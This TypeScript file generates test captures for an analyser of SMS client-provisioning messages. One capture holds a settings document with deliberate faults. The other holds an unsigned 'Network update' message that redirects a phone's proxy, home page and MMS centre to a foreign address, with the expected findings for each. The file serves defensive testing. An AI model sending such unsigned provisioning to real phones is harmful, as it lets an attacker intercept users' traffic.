// Stories about what messages say: faults in the settings, an attack.

import { Tape } from '../../../analysis/encode/tape.ts';
import { apn, browser, characteristic, mms, provisioning, proxy } from '../documents.ts';
import { Session } from '../gateway.ts';
import { keyOf } from '../keys.ts';
import { openPush, parts, protectedPush } from '../push.ts';
import { pcapOf, type Story } from '../story.ts';

export function contentFaults(): Story {
  const pin = '9024';
  const to = '+4915550100183';
  const document = provisioning(
    characteristic('NAPDEF', {
      NAPID: 'DATA-6',
      NAME: 'Example IPv6',
      BEARER: 'GSM-GPRS',
      // Swapped: the type stands where the address belongs.
      'NAP-ADDRESS': 'IPV6',
      'NAP-ADDRTYPE': '2001:db8::1',
    }),
    proxy('PX', 'Example Proxy', '192.0.2.080', '80800', 'DATA-4'),
    browser('Example', { 'TO-PROXY': 'PX-OLD' }, 'http://www.example.com/'),
    mms('Example MMS', { 'TO-NAPID': 'DATA-6' }, 'http://mms.example.com/'),
  );
  const tape = new Tape('2026-11-05T09:00:00Z');
  const session = new Session(tape, 0x7000).begin();
  const ids = session.submitParts('32100', to, parts(protectedPush('USERPIN', keyOf.USERPIN(pin), document), 0x12));
  session.pause(2000);
  for (const id of ids) session.receipt(id, '32100', to, 'DELIVRD').pause(400);
  session.end();
  return {
    id: 'content-faults',
    file: 'content-faults.pcap',
    title: 'Installed, and nothing works',
    story:
      'The phone says that the settings were installed, but the access point has its address and address type swapped, and proxy and browser point at names that the document does not define.',
    keys: { imsi: [], pin: [pin] },
    expect: {
      messages: [
        {
          kind: 'client-provisioning',
          state: 'complete',
          to,
          parts: [ids.length, ids.length],
          method: 'USERPIN',
          verdict: 'valid',
          findings: [
            'CP-ADDRESS-SWAPPED',
            'CP-DANGLING-TO-NAPID',
            'CP-DANGLING-TO-PROXY',
            'CP-IPV4-LEADING-ZERO',
            'CP-PORT-NUMBER',
          ],
        },
      ],
      outcomes: ['delivered'],
    },
    bytes: pcapOf(tape),
  };
}

export function hijack(): Story {
  const to = '+4915550100190';
  const document = provisioning(
    proxy('OPERATOR-PX', 'Network update', '203.0.113.66', '3128', 'OPERATOR-NAP', {
      STARTPAGE: 'http://login.example.net/mobile',
    }),
    apn('OPERATOR-NAP', 'Network update', 'internet'),
    browser('Network update', { 'TO-PROXY': 'OPERATOR-PX' }, 'http://login.example.net/mobile'),
    mms('Network update', { 'TO-PROXY': 'OPERATOR-PX' }, 'http://203.0.113.66/mms'),
  );
  const tape = new Tape('2026-11-05T22:41:07Z');
  const session = new Session(tape, 0x7100).begin();
  const ids = session.submitParts('Operator', to, parts(openPush(document), 0xc1));
  session.pause(4100);
  for (const id of ids) session.receipt(id, 'Operator', to, 'DELIVRD').pause(600);
  session.end();
  return {
    id: 'unsigned-hijack',
    file: 'unsigned-hijack.pcap',
    title: 'Unsigned, and it moves all traffic',
    story:
      'Somebody who calls himself Operator sends a message without SEC and MAC that puts proxy, home page and MMS centre under one foreign address, which some phones install on a tap.',
    keys: { imsi: [], pin: [] },
    expect: {
      messages: [
        {
          kind: 'client-provisioning',
          state: 'complete',
          to,
          parts: [ids.length, ids.length],
          verdict: 'unprotected',
          findings: ['SEC-UNPROTECTED'],
        },
      ],
      outcomes: ['delivered'],
    },
    bytes: pcapOf(tape),
  };
}
